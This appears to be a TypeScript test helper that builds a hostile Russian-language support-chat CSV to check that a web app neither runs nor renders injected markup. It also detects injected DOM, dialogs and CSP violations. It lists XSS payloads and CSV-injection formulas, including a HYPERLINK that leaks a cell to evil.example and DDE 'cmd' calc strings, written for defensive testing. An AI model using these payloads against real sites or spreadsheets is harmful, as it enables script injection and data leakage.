import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { BrowserContext, Frame, Page } from 'playwright-core';

// A hostile chat export and the probes that check a page did not run or build markup from it (issue 7).
// The export is the demo data with markup, script and spreadsheet formulas in every field, so that every page
// (templates, off-topic flags, handoffs, redirects) has real content to show: a hostile file that analyses to
// nothing would prove little. Every payload sets `window.__pwned` if it ever runs.

/** Markup and script: each one, were it parsed as HTML or evaluated, would set window.__pwned. */
export const MARKUP = [
	'<img src=x onerror="window.__pwned=1">',
	'<script>window.__pwned=1</script>',
	'"><svg onload=window.__pwned=1>',
	'<img src=https://evil.example/p.png onerror=window.__pwned=1>',
	'<a href="javascript:window.__pwned=1">ссылка</a>',
	'[ссылка](javascript:window.__pwned=1)',
	"{@html '<img src=x onerror=window.__pwned=1>'}",
	'{window.__pwned=1} ${window.__pwned=1} {{constructor.constructor("window.__pwned=1")()}}',
	'<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
	'</textarea></title></style><img src=x onerror=window.__pwned=1>'
] as const;

/** Spreadsheet formulas (OWASP "CSV injection"): a CSV export must not start a cell with any of them. */
export const FORMULAS = [
	'=HYPERLINK("https://evil.example/?leak="&A1;"нажмите")',
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0"
] as const;

/** A string every payload contains: its presence in a page's text shows the value was rendered as text. */
export const MARKER = '__pwned=1';

/** The name the hostile file is uploaded under (itself a formula and markup). */
export const HOSTILE_FILE_NAME = `=HYPERLINK("evil.example";"x")<img src=x onerror=window.__pwned=1>.csv`;
/** The role value the agents of the hostile file carry; the import maps it to "agent" in the role table. */
export const HOSTILE_AGENT_ROLE = 'Сотрудник<img src=x onerror=window.__pwned=1>';
/** A role value left unknown: its rows are rejected, and the rejection quotes it. */
export const HOSTILE_UNKNOWN_ROLE = '<script>window.__pwned=1</script>';
/** The name of an extra column, shown in the mapping preview and otherwise ignored. */
export const HOSTILE_COLUMN = '<img src=x onerror=window.__pwned=1>';
/** An owner name typed on the report page (the field takes 80 characters). */
export const HOSTILE_OWNER = `ПВЗ "><img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>`;

/** Each demo department's hostile name: markup, formulas and Svelte-looking text, each still naming the department. */
export const HOSTILE_DEPARTMENTS: Record<string, string> = {
	Техподдержка: 'Техподдержка<img src=https://evil.example/d.png onerror=window.__pwned=1>',
	Выплаты: 'Выплаты"><svg onload=window.__pwned=1>',
	Претензии: 'Претензии<script>window.__pwned=1</script>',
	Логистика: '=HYPERLINK("https://evil.example";"Логистика")<b>__pwned=1</b>',
	'Территориальный менеджер': "+cmd|' /C calc'!A0 Территориальный менеджер <img src=x onerror=window.__pwned=1>",
	'Проверка пункта': "@SUM(1+1)*cmd|' /C calc'!A0 Проверка пункта {@html '<img src=x onerror=window.__pwned=1>'}",
	'Бренд-менеджер': "-2+3+cmd|' /C calc'!A0 Бренд-менеджер javascript:window.__pwned=1"
};

/** Conversation ids: one in six gets one of these around its number ({id} is replaced by it). */
const HOSTILE_IDS = [
	'{id}<img src=x onerror=window.__pwned=1>',
	'{id}"><svg onload=window.__pwned=1>',
	'{id}<script>window.__pwned=1</script>',
	'javascript:window.__pwned=1//{id}',
	'=HYPERLINK("evil.example";"{id}")__pwned=1',
	'{id}/../../{@html x}?__pwned=1#x'
];

const DEMO = 'data/demo/support-chats.csv';
const COLUMNS = ['Номер обращения', 'ID сообщения', 'Дата и время', 'Роль', 'Отправитель', 'Отдел', 'ПВЗ', 'Сообщение'] as const;
type Row = Record<(typeof COLUMNS)[number], string>;

/** Numbers each distinct value in order of first appearance. */
function indexer(): (value: string) => number {
	const seen = new Map<string, number>();
	return (value) => {
		if (!seen.has(value)) seen.set(value, seen.size);
		return seen.get(value)!;
	};
}

/** A payload from `list`, chosen by `i`. */
const pick = <T>(list: readonly T[], i: number): T => list[i % list.length];

/**
 * The hostile export as CSV text (`;`-separated, as the demo): the demo's rows with
 * - one conversation id in six, every department, every agent's name, one customer (pickup point) in three and one
 *   message in three carrying markup; bot replies and two agents' replies starting with a spreadsheet formula;
 * - the agents of every other name writing under the role value HOSTILE_AGENT_ROLE (mapped at import);
 * - three rows with the unknown role HOSTILE_UNKNOWN_ROLE and one with a formula for a time (both rejected);
 * - an extra column named HOSTILE_COLUMN.
 */
export function hostileExportCsv(): string {
	const demo = Papa.parse<Row>(readFileSync(DEMO, 'utf8').replace(/^\ufeff/, ''), { header: true, delimiter: ';', skipEmptyLines: true });
	const conversation = indexer();
	const author = indexer();
	const customer = indexer();
	const formulaAuthors = new Map<string, string>();
	const rows = demo.data.map((row, i) => {
		const c = conversation(row['Номер обращения']);
		const a = author(row['Отправитель']);
		const agent = row['Роль'] === 'Сотрудник';
		if (agent && formulaAuthors.size < 2 && !formulaAuthors.has(row['Отправитель'])) {
			formulaAuthors.set(row['Отправитель'], pick(FORMULAS, formulaAuthors.size + 2));
		}
		let text = row['Сообщение'];
		if (row['Роль'] === 'Бот') text = `${FORMULAS[0]} ${text}`;
		else if (formulaAuthors.has(row['Отправитель'])) text = `${formulaAuthors.get(row['Отправитель'])} ${text}`;
		if (i % 3 === 0) text = `${text} ${pick(MARKUP, i / 3)}`;
		return {
			'Номер обращения': c % 6 === 0 ? pick(HOSTILE_IDS, c / 6).replace('{id}', row['Номер обращения']) : row['Номер обращения'],
			'ID сообщения': row['ID сообщения'],
			'Дата и время': row['Дата и время'],
			Роль: agent && a % 2 === 1 ? HOSTILE_AGENT_ROLE : row['Роль'],
			Отправитель: row['Роль'] === 'Система' ? row['Отправитель'] : `${row['Отправитель']}${pick(MARKUP, a)}`,
			Отдел: row['Отдел'] ? (HOSTILE_DEPARTMENTS[row['Отдел']] ?? row['Отдел']) : '',
			ПВЗ: customer(row['ПВЗ']) % 3 === 0 ? `${row['ПВЗ']}"><svg onload=window.__pwned=1>` : row['ПВЗ'],
			Сообщение: text,
			[HOSTILE_COLUMN]: pick(MARKUP, i)
		};
	});
	const rejected = [1, 2, 3].map((n) => ({
		...rows[0], 'ID сообщения': `99900000${n}`, Роль: HOSTILE_UNKNOWN_ROLE, Сообщение: `${MARKUP[0]} отклонённая строка ${n}`
	}));
	rejected.push({ ...rows[0], 'ID сообщения': '999000004', 'Дата и время': FORMULAS[0], Сообщение: MARKUP[1] });
	// The rejected rows go first: the importer asks about the role values of the file's first rows.
	return `\ufeff${Papa.unparse([...rejected, ...rows], { delimiter: ';', columns: [...COLUMNS, HOSTILE_COLUMN], newline: '\r\n' })}\r\n`;
}

/** What a frame's DOM holds that only markup from the data could have put there. */
export function injectedMarkup(frame: Frame | Page): Promise<string[]> {
	return frame.evaluate(() => {
		const found: string[] = [];
		const describe = (el: Element) => `<${el.tagName.toLowerCase()}> in ${el.parentElement?.tagName.toLowerCase() ?? 'document'}`;
		for (const el of Array.from(document.querySelectorAll('*'))) {
			for (const attr of Array.from(el.attributes)) {
				if (/^on/i.test(attr.name)) found.push(`${describe(el)} with ${attr.name}="${attr.value}"`);
				// A link into the app may carry a hostile id, percent-encoded: only a javascript: scheme is a hole.
				if (/^(href|src|action|formaction|xlink:href)$/i.test(attr.name) && /^[\s\0-\x1f]*javascript:/i.test(attr.value)) {
					found.push(`${describe(el)} with ${attr.name}="${attr.value}"`);
				}
			}
			if (el.tagName === 'SCRIPT' && (el as HTMLScriptElement).type !== 'application/json' && el.textContent?.includes('__pwned')) {
				found.push(`${describe(el)}: ${el.textContent}`);
			}
			if (el.tagName === 'IMG' && /^(x|https:\/\/evil\.example)/.test(el.getAttribute('src') ?? '')) found.push(describe(el));
		}
		return found;
	});
}

/** window.__pwned in the page and each of its frames that can be read (undefined everywhere when nothing ran). */
export async function pwnedAnywhere(page: Page): Promise<string[]> {
	const hits: string[] = [];
	for (const frame of page.frames()) {
		const value = await frame.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned).catch(() => undefined);
		if (value !== undefined) hits.push(`${frame.url() || 'about:srcdoc'}: window.__pwned = ${String(value)}`);
	}
	return hits;
}

/** A CSV file's cells (BOM dropped), parsed as a spreadsheet would split them. */
export function csvCells(text: string): string[] {
	const parsed = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true });
	return parsed.data.flat();
}

/** Cells a spreadsheet would run as a formula: starting with = + - @ (a plain number such as -3.5 is fine). */
export function formulaCells(cells: readonly string[]): string[] {
	return cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/i.test(cell));
}

/** Where the security events of a browser context are collected. */
export interface Watch {
	/** Every request URL, pages and workers. */
	requests: string[];
	/** alert/confirm/prompt/beforeunload dialogs (each dismissed). */
	dialogs: string[];
	/** Content-Security-Policy violations: from the DOM event and from Chromium's console message. */
	csp: string[];
	/** Uncaught page errors. */
	errors: string[];
}

/** Starts recording requests, dialogs, CSP violations and page errors in `context` and each page it opens. */
export async function watch(context: BrowserContext): Promise<Watch> {
	const w: Watch = { requests: [], dialogs: [], csp: [], errors: [] };
	context.on('request', (r) => w.requests.push(r.url()));
	await context.exposeBinding('__reportCspViolation', ({ frame }, text: string) => w.csp.push(`${frame?.url() ?? '?'}: ${text}`));
	await context.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', (e) => {
			const report = (window as unknown as { __reportCspViolation?: (t: string) => void }).__reportCspViolation;
			report?.(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} (${e.sample})`);
		});
	});
	const onPage = (page: Page) => {
		page.on('dialog', (d) => {
			w.dialogs.push(`${d.type()}: ${d.message()}`);
			void d.dismiss().catch(() => {});
		});
		page.on('console', (m) => {
			if (/Content[- ]Security[- ]Policy/i.test(m.text())) w.csp.push(`console: ${m.text()}`);
		});
		page.on('pageerror', (e) => w.errors.push(e.message));
		page.on('worker', (worker) => worker.on('console', (m) => {
			if (/Content[- ]Security[- ]Policy/i.test(m.text())) w.csp.push(`worker console: ${m.text()}`);
		}));
	};
	context.pages().forEach(onPage);
	context.on('page', onPage);
	return w;
}
